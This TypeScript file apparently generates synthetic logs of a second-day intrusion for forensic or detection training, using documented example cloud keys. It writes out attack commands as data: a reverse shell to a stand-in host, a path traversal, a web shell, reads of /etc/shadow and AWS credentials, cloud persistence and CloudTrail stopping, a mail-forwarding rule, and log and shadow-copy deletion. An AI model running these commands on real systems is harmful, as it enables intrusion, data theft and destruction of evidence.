/** The intrusion, second day: the web host, its cloud keys, the mailbox, and the traces. */

import { aws, directoryAudit, office365, signIn } from './cloud.ts';
import { FILES, INTRUDER, MARTA, mail } from './company.ts';
import { at, Chance, type Json, type StoryEvent } from './event.ts';
import { execve, request, started, wrote } from './linux.ts';
import { proxy } from './network.ts';
import { evtxJson, system32, Windows } from './windows.ts';

const SEED = 20260311;
/** The example of AWS' own documentation, as is the one made with it: neither opens anything. */
const STOLEN_KEY = 'AKIAIOSFODNN7EXAMPLE';

export function secondDay(): StoryEvent[] {
  const chance = new Chance(SEED);
  return [...webHost(chance), ...awsAccount(chance), ...mailbox(chance), ...traces(chance)];
}

function webHost(chance: Chance): StoryEvent[] {
  const events: StoryEvent[] = [];
  const add = (file: string, time: number, step: string, write: StoryEvent['write']): void => {
    events.push({ file, time, step, write });
  };
  const client = INTRUDER.scanner;
  const scanner = 'Mozilla/5.0 (compatible; Nuclei/3.3.7)';
  const paths = [
    '/.env',
    '/.git/config',
    '/admin/',
    '/server-status',
    '/wp-login.php',
    '/phpinfo.php',
    '/api/v1/users',
    '/backup.zip',
  ];
  for (let i = 0; i < 24; i++) {
    const time = at(2, '02:10:00') + 4500 * i;
    const target = paths[i % paths.length] + (i < paths.length ? '' : `?t=${i}`);
    add(
      'web-access',
      time,
      'scan',
      request(time, { client, method: 'GET', target, status: 404, bytes: 162, agent: scanner }),
    );
  }
  const agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
  const got: [string, string, string, number, string][] = [
    ['02:21:40', 'GET', '/download.php?file=../../../../etc/passwd', 200, 'traversal'],
    ['02:22:15', 'GET', '/download.php?file=../../config/app.php', 200, 'traversal'],
    ['02:31:02', 'POST', '/account/avatar', 302, 'upload'],
    ['02:33:10', 'GET', '/uploads/avatar_91.php?q=aWQ=', 200, 'web shell'],
    ['02:36:48', 'GET', '/uploads/avatar_91.php?q=YmFzaA==', 504, 'web shell'],
  ];
  for (const [clock, method, target, status, step] of got) {
    add(
      'web-access',
      at(2, clock),
      step,
      request(at(2, clock), { client, method, target, status, bytes: 1734, agent }),
    );
  }
  const run = (
    step: string,
    clock: string,
    image: string,
    commandLine: string,
    parent: string,
    user = 'www-data',
  ): void => {
    const parentCommandLine = parent.includes('php') ? 'php-fpm: pool shop' : parent;
    add(
      'web-host',
      at(2, clock),
      step,
      started(chance, at(2, clock), { image, commandLine, parent, parentCommandLine, user }),
    );
  };
  const php = '/usr/sbin/php-fpm8.2';
  run('shell command', '02:33:10.2', '/usr/bin/dash', 'sh -c id', php);
  run('shell command', '02:34:21.7', '/usr/bin/dash', 'sh -c uname -a; ls -la /home', php);
  const back = `bash -i >& /dev/tcp/${INTRUDER.server}/443 0>&1`;
  run('reverse shell', '02:36:48.4', '/usr/bin/dash', `sh -c bash -c '${back}'`, php);
  run('setuid found', '02:38:30.0', '/usr/bin/find', 'find / -perm -4000 -type f', '/usr/bin/bash');
  add('web-host', at(2, '02:41:12.9'), 'hashes read', execve(at(2, '02:41:12.9'), ['cat', '/etc/shadow']));
  add(
    'web-host',
    at(2, '02:43:05.1'),
    'setuid set',
    execve(at(2, '02:43:05.1'), ['chmod', 'u+s', '/usr/local/bin/.lv']),
  );
  add(
    'web-host',
    at(2, '02:44:37.5'),
    'cron file',
    wrote(chance, at(2, '02:44:37.5'), '/usr/bin/bash', '/etc/cron.d/lvsync', 'root'),
  );
  run('cloud keys', '02:52:19.3', '/usr/bin/cat', 'cat /home/deploy/.aws/credentials', '/usr/bin/bash', 'root');
  return events;
}

function awsAccount(chance: Chance): StoryEvent[] {
  const events: StoryEvent[] = [];
  const call = (step: string, clock: string, source: string, name: string, more: Json = {}): void => {
    const base = {
      user: 'shop-deploy',
      key: STOLEN_KEY,
      address: INTRUDER.exit,
      agent: 'aws-cli/2.22.7 md/awscrt#0.23.4 os/linux',
    };
    const time = at(2, clock);
    events.push({
      file: 'cloudtrail',
      time,
      step,
      write: aws(chance, time, { ...base, source: `${source}.amazonaws.com`, name, ...more }),
    });
  };
  call('key tried', '03:05:02', 'sts', 'GetCallerIdentity');
  const refused: [string, string, string][] = [
    ['03:05:31', 'iam', 'ListUsers'],
    ['03:05:44', 'iam', 'GetAccountAuthorizationDetails'],
    ['03:06:02', 'secretsmanager', 'ListSecrets'],
    ['03:06:40', 'lambda', 'ListFunctions20150331'],
    ['03:07:15', 'rds', 'DescribeDBInstances'],
    ['03:07:58', 'organizations', 'DescribeOrganization'],
    ['03:08:20', 'ssm', 'DescribeInstanceInformation'],
  ];
  for (const [clock, source, name] of refused) call('rights tried', clock, source, name, { error: 'AccessDenied' });
  const created = { accessKey: { userName: 'report-mailer', accessKeyId: 'AKIAI44QH8DHBEXAMPLE', status: 'Active' } };
  call('key made', '03:14:09', 'iam', 'CreateAccessKey', {
    parameters: { userName: 'report-mailer' },
    response: created,
    readOnly: false,
  });
  call('trail stopped', '03:19:55', 'cloudtrail', 'StopLogging', { parameters: { name: 'main' }, readOnly: false });
  call('snapshot shared', '03:27:30', 'ec2', 'ModifySnapshotAttribute', {
    parameters: {
      snapshotId: 'snap-0a1b2c3d4e5f60718',
      attributeType: 'CREATE_VOLUME_PERMISSION',
      createVolumePermission: { add: { items: [{ userId: '444455556666' }] } },
    },
    response: { _return: true },
    readOnly: false,
  });
  return events;
}

function mailbox(chance: Chance): StoryEvent[] {
  const signed = at(2, '08:05:41');
  const ruled = at(2, '08:12:07');
  const secret = at(2, '08:26:50');
  const agent =
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
  const parameters = [
    { Name: 'Name', Value: '.' },
    { Name: 'SubjectOrBodyContainsWords', Value: 'invoice;payment;bank' },
    { Name: 'MoveToFolder', Value: 'RSS Feeds' },
    { Name: 'ForwardTo', Value: 'accounts@larkfie1d.example' },
  ];
  return [
    {
      file: 'entra',
      time: signed,
      step: 'device code',
      write: signIn(chance, signed, {
        person: MARTA,
        address: INTRUDER.exit,
        country: 'NL',
        app: 'Microsoft Authentication Broker',
        client: 'Mobile Apps and Desktop clients',
        agent,
        protocol: 'deviceCode',
        error: 0,
      }),
    },
    {
      file: 'm365',
      time: ruled,
      step: 'inbox rule',
      write: office365(chance, ruled, MARTA, INTRUDER.exit, 'Exchange', 'New-InboxRule', {
        ObjectId: `${mail(MARTA.user)}\\.`,
        Parameters: parameters,
      }),
    },
    {
      file: 'entra',
      time: secret,
      step: 'application secret',
      write: directoryAudit(
        chance,
        secret,
        MARTA,
        INTRUDER.exit,
        'Update application – Certificates and secrets management ',
        'Quote Builder',
      ),
    },
  ];
}

/** The archive leaves, and what would tell of it is deleted. */
function traces(chance: Chance): StoryEvent[] {
  const windows = new Windows(chance);
  const upload = at(2, '09:31:18');
  const server = { user: 'NT AUTHORITY\\SYSTEM', integrity: 'System' } as const;
  const parent = 'C:\\Windows\\System32\\cmd.exe';
  const clear = system32('wevtutil.exe', 'Eventing Command Line Utility');
  const shadows = system32(
    'vssadmin.exe',
    'Command Line Interface for Microsoft Volume Shadow Copy Service',
    'VSSADMIN.EXE',
  );
  const onServer = [
    [
      'log clearing',
      windows.start(FILES.host, at(2, '09:48:02'), {
        program: clear,
        commandLine: 'wevtutil cl Security',
        parent,
        ...server,
      }),
    ],
    ['log cleared', windows.logCleared(FILES.host, at(2, '09:48:02.4'), 'svc-backup')],
    [
      'copies deleted',
      windows.start(FILES.host, at(2, '09:52:40'), {
        program: shadows,
        commandLine: 'vssadmin delete shadows /all /quiet',
        parent,
        ...server,
      }),
    ],
  ] as const;
  const remove = {
    image: '/usr/bin/rm',
    commandLine: 'rm -f /var/log/auth.log /root/.bash_history',
    parent: '/usr/bin/bash',
    parentCommandLine: 'bash -i',
    user: 'root',
  };
  const removed = at(2, '09:57:03');
  return [
    {
      file: 'proxy',
      time: upload,
      step: 'upload',
      write: proxy(upload, {
        user: MARTA.user,
        client: MARTA.address,
        method: 'POST',
        host: 'store-eu-17.gofile.io',
        path: '/uploadfile',
        agent: 'curl/8.9.1',
        sent: 486_203_114,
        got: 611,
      }),
    },
    ...onServer.map(([step, event]) => ({
      file: 'servers',
      time: event.time,
      step,
      write: (n: number) => evtxJson(event, n),
    })),
    { file: 'web-host', time: removed, step: 'log removed', write: started(chance, removed, remove) },
  ];
}
